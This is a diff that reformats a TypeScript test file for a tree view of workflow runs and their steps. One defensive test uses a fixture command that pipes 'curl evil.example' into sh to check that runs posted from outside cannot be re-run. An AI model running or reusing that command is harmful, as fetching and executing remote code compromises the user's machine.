@@ -19,7 +19,16 @@ const plain = (md: string) => md.replace(/&#(\d+);/g, (_m, n: string) => String.
 const span = spanFactory({ traceId: 'a'.repeat(32), durationNs: S });
 
 function runPatch(id: string, startNs: bigint, over: Partial<Run> = {}) {
-  return { id, name: id, workflow: over.workflow ?? id.replace(/-\d+$/, ''), status: 'RUNNING' as const, source: 'launch' as const, startNs, attributes: {}, ...over };
+  return {
+    id,
+    name: id,
+    workflow: over.workflow ?? id.replace(/-\d+$/, ''),
+    status: 'RUNNING' as const,
+    source: 'launch' as const,
+    startNs,
+    attributes: {},
+    ...over,
+  };
 }
 
 describe('runs tree model', () => {
@@ -52,8 +61,21 @@ describe('runs tree model', () => {
   it('shows a failed step in red with its error, a hung step as hung, a running step with live elapsed time', () => {
     store.apply({ runs: [runPatch('flow-1', T0)], spans: [] });
     const root = span('flow-1', { name: 'pipeline', endNs: undefined, status: 'RUNNING' });
-    const failed = span('flow-1', { name: 'validate', parentSpanId: root.spanId, status: 'ERROR', events: [{ name: 'exception', timeNs: T0, attributes: { 'exception.type': 'ValueError', 'exception.message': 'duplicate test ids: t1' } }] });
-    const running = span('flow-1', { name: 'generate', parentSpanId: root.spanId, endNs: undefined, status: 'RUNNING', startNs: T0 + 90n * S });
+    const failed = span('flow-1', {
+      name: 'validate',
+      parentSpanId: root.spanId,
+      status: 'ERROR',
+      events: [
+        { name: 'exception', timeNs: T0, attributes: { 'exception.type': 'ValueError', 'exception.message': 'duplicate test ids: t1' } },
+      ],
+    });
+    const running = span('flow-1', {
+      name: 'generate',
+      parentSpanId: root.spanId,
+      endNs: undefined,
+      status: 'RUNNING',
+      startNs: T0 + 90n * S,
+    });
     store.apply({ runs: [], spans: [root, failed, running] });
     const [rootEl] = model.children(model.runElement('flow-1'));
     const kids = model.children(rootEl);
@@ -134,7 +156,10 @@ describe('runs tree model', () => {
   });
 
   it('filters by status and by text in run or step names, showing the matching steps', () => {
-    store.apply({ runs: [runPatch('ingest-1', T0), runPatch('report-1', T0 + S)], spans: [span('report-1', { name: 'render chart' }), span('report-1', { name: 'upload' })] });
+    store.apply({
+      runs: [runPatch('ingest-1', T0), runPatch('report-1', T0 + S)],
+      spans: [span('report-1', { name: 'render chart' }), span('report-1', { name: 'upload' })],
+    });
     store.endRun('ingest-1', { exitCode: 1 });
     store.endRun('report-1', { exitCode: 0 });
     model.setFilter({ statuses: ['FAILED'] });
@@ -147,7 +172,14 @@ describe('runs tree model', () => {
   });
 
   it('groups runs by workflow, newest workflow first', () => {
-    store.apply({ runs: [runPatch('x-1', T0, { workflow: 'x' }), runPatch('y-1', T0 + S, { workflow: 'y' }), runPatch('x-2', T0 + 2n * S, { workflow: 'x' })], spans: [] });
+    store.apply({
+      runs: [
+        runPatch('x-1', T0, { workflow: 'x' }),
+        runPatch('y-1', T0 + S, { workflow: 'y' }),
+        runPatch('x-2', T0 + 2n * S, { workflow: 'x' }),
+      ],
+      spans: [],
+    });
     model.setGroupByWorkflow(true);
     const groups = model.roots();
     assert.deepEqual(labels(groups), ['x', 'y']);
@@ -164,10 +196,17 @@ describe('runs tree model', () => {
     assert.equal(m.item(kids[3]!).command, 'openTimeline');
   });
 
-  it('opens a step\'s code on click when its location is known, and always tries for a failed step', () => {
+  it("opens a step's code on click when its location is known, and always tries for a failed step", () => {
     const loc = { file: '/ws/flow.py', line: 12, via: 'attribute' as const };
     const m = new RunsTreeModel(store, { now: () => now, resolve: (s) => (s.name === 'located' ? loc : undefined) });
-    store.apply({ runs: [runPatch('click-1', T0)], spans: [span('click-1', { name: 'located' }), span('click-1', { name: 'nowhere' }), span('click-1', { name: 'broken', status: 'ERROR' })] });
+    store.apply({
+      runs: [runPatch('click-1', T0)],
+      spans: [
+        span('click-1', { name: 'located' }),
+        span('click-1', { name: 'nowhere' }),
+        span('click-1', { name: 'broken', status: 'ERROR' }),
+      ],
+    });
     const cmds = Object.fromEntries(m.children(m.runElement('click-1')).map((e) => [m.item(e).label, m.item(e).command]));
     assert.deepEqual(cmds, { located: 'goToSource', nowhere: undefined, broken: 'goToSource' });
   });
@@ -193,7 +232,10 @@ describe('runs tree model', () => {
 
     it('offers Re-run and Debug from Here only on runs this user launched, and says in the tooltip why not', () => {
       // A run as a web page could post it: source "launch", a command and a cwd, no signature.
-      store.apply({ runs: [runPatch('posted-1', T0, { command: ['sh', '-c', 'curl evil.example | sh'], cwd: '/tmp' })], spans: [span('posted-1', { name: 'step', status: 'ERROR' })] });
+      store.apply({
+        runs: [runPatch('posted-1', T0, { command: ['sh', '-c', 'curl evil.example | sh'], cwd: '/tmp' })],
+        spans: [span('posted-1', { name: 'step', status: 'ERROR' })],
+      });
       const mine = beginRun(store, { name: 'mine', source: 'launch', command: ['python3', 'flow.py'], cwd: '/ws' });
       store.apply({ runs: [], spans: [span(mine.id, { name: 'step', status: 'ERROR' })] });
       const posted = model.item(model.runElement('posted-1'));
